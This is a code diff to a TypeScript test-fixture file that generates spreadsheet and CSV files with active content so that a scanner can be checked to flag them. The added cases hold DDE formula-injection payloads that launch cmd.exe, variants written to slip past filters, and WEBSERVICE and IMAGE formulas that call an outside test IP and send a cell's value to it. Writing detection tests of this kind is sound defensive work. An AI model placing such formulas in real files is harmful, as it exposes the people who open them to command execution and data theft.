@@ -1,4 +1,5 @@
 import type { ActiveContent } from '#contract/files.ts'
+import { escapeHtml } from '../core/escape-html.ts'
 import { oddZip } from './odd-zip.ts'
 import { body, contents, ole, ooxml, opendocument, relations } from './office-files.ts'
 
@@ -97,6 +98,40 @@ export const activeFiles: ActiveFile[] = [
         'xl/worksheets/sheet1.xml': `<worksheet><c><f>cmd|'/C calc'!A0</f></c></worksheet>`,
       }),
   },
+  ...[
+    `cmd|'/C echo a|calc'!A0`,
+    `1<cmd|'/C calc'!A0`,
+    `cmd|'/C "'!A0&"x"`,
+    `@cmd|'/C calc'!A0`,
+    "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
+  ].map((formula, at) => ({
+    name: `DDE anders geschrieben ${at + 1}.xlsx`,
+    found: ['dde'] as ActiveContent[],
+    make: () => sheetWith(`<c><f>${escapeHtml(formula)}</f></c>`),
+  })),
+  {
+    name: 'DDE in einem Namen.xlsx',
+    found: ['dde'],
+    make: () =>
+      ooxml('xlsx', {
+        'xl/names.xml': `<workbook><definedName name="x">cmd|'/C calc'!$A$1</definedName></workbook>`,
+      }),
+  },
+  {
+    name: 'DDE in einer Regel.xlsx',
+    found: ['dde'],
+    make: () => sheetWith(`<cfRule><formula>cmd|'/C calc'!A0</formula></cfRule>`),
+  },
+  {
+    name: 'Formel ins Netz.xlsx',
+    found: ['external'],
+    make: () => sheetWith('<c><f>_xlfn.WEBSERVICE("http://198.51.100.7/?"&amp;A1)</f></c>'),
+  },
+  {
+    name: 'Bild aus dem Netz.xlsx',
+    found: ['external'],
+    make: () => sheetWith('<c><f>_xlfn.IMAGE("http://198.51.100.7/a.png")</f></c>'),
+  },
   {
     name: 'Abfrage im Netz.xlsx',
     found: ['external'],
@@ -181,8 +216,35 @@ export const activeFiles: ActiveFile[] = [
         },
       ]),
   },
-  { name: 'DDE.csv', found: ['dde'], make: () => Buffer.from(`a;b\r\n=cmd|'/C calc'!A0;2\r\n`) },
+  ...Object.entries({
+    DDE: `=cmd|'/C calc'!A0;2`,
+    'DDE mit Komma': `"=cmd|'/C echo a,b;c'!A0";2`,
+    'DDE in einer Funktion': `"=IF(1,cmd|'/C calc'!A0,0)",2`,
+    'DDE hinter einer neuen Zeile': `"=\ncmd|'/C calc'!A0";2`,
+  }).map(([what, row]) => ({
+    name: `${what}.csv`,
+    found: ['dde'] as ActiveContent[],
+    make: () => Buffer.from(`a;b\r\n${row}\r\n`),
+  })),
+  {
+    name: 'Formel ins Netz.csv',
+    found: ['external'],
+    make: () => Buffer.from('a;b\r\n"=WEBSERVICE(""http://198.51.100.7/?""&A1)";2\r\n'),
+  },
+  {
+    name: 'Formel ins Netz.ods',
+    found: ['external'],
+    make: () =>
+      opendocument(
+        'spreadsheet',
+        inContent('<table:table-cell table:formula="of:=WEBSERVICE([.A1])"/>'),
+      ),
+  },
 ]
+
+function sheetWith(content: string): Buffer {
+  return ooxml('xlsx', { 'xl/worksheets/sheet1.xml': `<worksheet>${content}</worksheet>` })
+}
 
 function word(what: string, found: ActiveContent[], parts: Record<string, string | Buffer>) {
   return { name: `${what}.docx`, found, make: () => ooxml('docx', parts) }
